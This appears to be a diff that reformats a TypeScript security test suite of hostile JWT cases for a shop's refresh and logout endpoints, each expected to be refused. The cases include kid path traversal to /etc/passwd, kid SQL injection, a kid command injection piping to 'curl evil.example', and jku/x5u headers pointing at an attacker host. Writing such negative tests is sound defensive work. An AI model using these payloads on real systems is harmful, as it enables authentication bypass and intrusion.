@@ -50,7 +50,8 @@ export const tokenCases: HostileCase[] = [
   refused('PS256 header', () => rawToken({ alg: 'PS256' }, claims(), b64url('sig'))),
   refused('EdDSA header', () => rawToken({ alg: 'EdDSA' }, claims(), b64url('sig'))),
   refused('RS256 with its public key embedded as jwk', () =>
-    rawToken({ alg: 'RS256', jwk: { kty: 'RSA', e: 'AQAB', n: b64url('n'.repeat(256)) } }, claims(), b64url('sig'))),
+    rawToken({ alg: 'RS256', jwk: { kty: 'RSA', e: 'AQAB', n: b64url('n'.repeat(256)) } }, claims(), b64url('sig')),
+  ),
   refused('alg missing from the header', () => signRaw({ typ: 'JWT' }, claims())),
   // other secrets
   refused('HS256 with the secret "secret"', () => mint(claims(), { key: bytes('secret') })),
@@ -60,10 +61,17 @@ export const tokenCases: HostileCase[] = [
   refused('HS256 with the demo secret truncated to 32 characters', () => mint(claims(), { key: bytes(DEMO_SECRET.slice(0, 32)) })),
   // kid injection: we have one key, so kid can never select another
   refused('kid path traversal signed with an empty-file key', () => signRaw({ alg: 'HS256', kid: '../../../../dev/null' }, claims(), new Uint8Array(1))),
-  refused('kid /etc/passwd signed with its first line', () => signRaw({ alg: 'HS256', kid: '../../etc/passwd' }, claims(), bytes('root:x:0:0:root:/root:/bin/bash'))),
+  refused('kid /etc/passwd signed with its first line', () =>
+    signRaw({ alg: 'HS256', kid: '../../etc/passwd' }, claims(), bytes('root:x:0:0:root:/root:/bin/bash')),
+  ),
   refused('kid SQL injection signed with the injected value', () => signRaw({ alg: 'HS256', kid: "x' UNION SELECT 'key' -- " }, claims(), bytes('key'))),
   refused('kid command injection', () => signRaw({ alg: 'HS256', kid: '| curl evil.example' }, claims(), bytes('evil'))),
-  { name: 'kid on a token signed with the real secret is ignored, not trusted', request: async () => authPost('refresh', { token: await signRaw({ alg: 'HS256', typ: 'JWT', kid: '../../etc/passwd' }, claims()) }), status: 200, body: REFRESHED },
+  {
+    name: 'kid on a token signed with the real secret is ignored, not trusted',
+    request: async () => authPost('refresh', { token: await signRaw({ alg: 'HS256', typ: 'JWT', kid: '../../etc/passwd' }, claims()) }),
+    status: 200,
+    body: REFRESHED,
+  },
   // key-pointing headers
   refused('jku with alg none', () => rawToken({ alg: 'none', jku: 'https://evil.example/jwks.json' }, claims())),
   refused('x5u signed with the secret', () => signRaw({ alg: 'HS256', x5u: 'https://evil.example/cert.pem' }, claims())),
@@ -76,7 +84,10 @@ export const tokenCases: HostileCase[] = [
   refused('exp beyond safe integers', () => mint({ ...claims(), exp: 1e20 })),
   refused('iat as a boolean', () => mint({ ...claims(), iat: true as unknown as number })),
   refused('nbf one minute ahead', () => mint({ ...claims(), nbf: nowSeconds() + 60 })),
-  refused('expired an hour ago', () => { const iat = nowSeconds() - 7200; return mint({ ...claims(), iat, nbf: iat, exp: iat + 3600 }) }),
+  refused('expired an hour ago', () => {
+    const iat = nowSeconds() - 7200
+    return mint({ ...claims(), iat, nbf: iat, exp: iat + 3600 })
+  }),
   // iss and aud
   refused('iss over https', () => mint({ ...claims(), iss: 'https://shop.localhost/' })),
   refused('iss with the host in upper case', () => mint({ ...claims(), iss: 'http://SHOP.localhost/' })),
@@ -100,9 +111,15 @@ export const tokenCases: HostileCase[] = [
   refused('trailing dot', async () => `${await valid()}.`),
   refused('leading dot', async () => `.${await valid()}`),
   refused('empty signature', async () => (await valid()).replace(/[^.]+$/, '')),
-  refused('payload in standard base64 with + and /', async () => { const [h, p, s] = (await valid()).split('.'); return `${h}.${p!.replace(/-/g, '+').replace(/_/g, '/')}+/.${s}` }),
+  refused('payload in standard base64 with + and /', async () => {
+    const [h, p, s] = (await valid()).split('.')
+    return `${h}.${p!.replace(/-/g, '+').replace(/_/g, '/')}+/.${s}`
+  }),
   refused('padding on the signature', async () => `${await valid()}=`),
-  refused('payload that is not JSON', async () => { const [h, , s] = (await valid()).split('.'); return `${h}.${b64url('not json')}.${s}` }),
+  refused('payload that is not JSON', async () => {
+    const [h, , s] = (await valid()).split('.')
+    return `${h}.${b64url('not json')}.${s}`
+  }),
   refused('payload that is a JSON array', () => signRaw({ alg: 'HS256' }, [1, 2] as unknown as Record<string, unknown>)),
   refused('100 KiB of garbage', () => 'A'.repeat(100 * 1024)),
   // Authorization header shapes (RFC 6750 §2.1, RFC 7235 §2.1)
@@ -134,11 +151,41 @@ export const tokenCases: HostileCase[] = [
   },
   // tokens anywhere but the Authorization header are never read
   ...(['refresh', 'logout'] as const).flatMap((endpoint) => [
-    { name: `${endpoint} with ?access_token= only`, request: async () => authPost(endpoint, { query: `?access_token=${await valid()}` }), status: 401, body: ANSWERS.noToken },
-    { name: `${endpoint} with ?token= only`, request: async () => authPost(endpoint, { query: `?token=${await valid()}` }), status: 401, body: ANSWERS.noToken },
-    { name: `${endpoint} with the token in a JSON body`, request: async () => authPost(endpoint, { body: { token: await valid(), access_token: await valid() } }), status: 401, body: ANSWERS.noToken },
-    { name: `${endpoint} with the token in a cookie`, request: async () => authPost(endpoint, { headers: { Cookie: `token=${await valid()}; access_token=${await valid()}` } }), status: 401, body: ANSWERS.noToken },
-    { name: `${endpoint} with the token in X-Access-Token`, request: async () => authPost(endpoint, { headers: { 'X-Access-Token': await valid() } }), status: 401, body: ANSWERS.noToken },
+    {
+      name: `${endpoint} with ?access_token= only`,
+      request: async () => authPost(endpoint, { query: `?access_token=${await valid()}` }),
+      status: 401,
+      body: ANSWERS.noToken,
+    },
+    {
+      name: `${endpoint} with ?token= only`,
+      request: async () => authPost(endpoint, { query: `?token=${await valid()}` }),
+      status: 401,
+      body: ANSWERS.noToken,
+    },
+    {
+      name: `${endpoint} with the token in a JSON body`,
+      request: async () => authPost(endpoint, { body: { token: await valid(), access_token: await valid() } }),
+      status: 401,
+      body: ANSWERS.noToken,
+    },
+    {
+      name: `${endpoint} with the token in a cookie`,
+      request: async () => authPost(endpoint, { headers: { Cookie: `token=${await valid()}; access_token=${await valid()}` } }),
+      status: 401,
+      body: ANSWERS.noToken,
+    },
+    {
+      name: `${endpoint} with the token in X-Access-Token`,
+      request: async () => authPost(endpoint, { headers: { 'X-Access-Token': await valid() } }),
+      status: 401,
+      body: ANSWERS.noToken,
+    },
   ]),
-  { name: 'logout with a bad token and a good one in the query', request: async () => authPost('logout', { query: `?access_token=${await valid()}`, headers: bearer('x.y.z') }), status: 401, body: ANSWERS.invalidToken },
+  {
+    name: 'logout with a bad token and a good one in the query',
+    request: async () => authPost('logout', { query: `?access_token=${await valid()}`, headers: bearer('x.y.z') }),
+    status: 401,
+    body: ANSWERS.invalidToken,
+  },
 ]
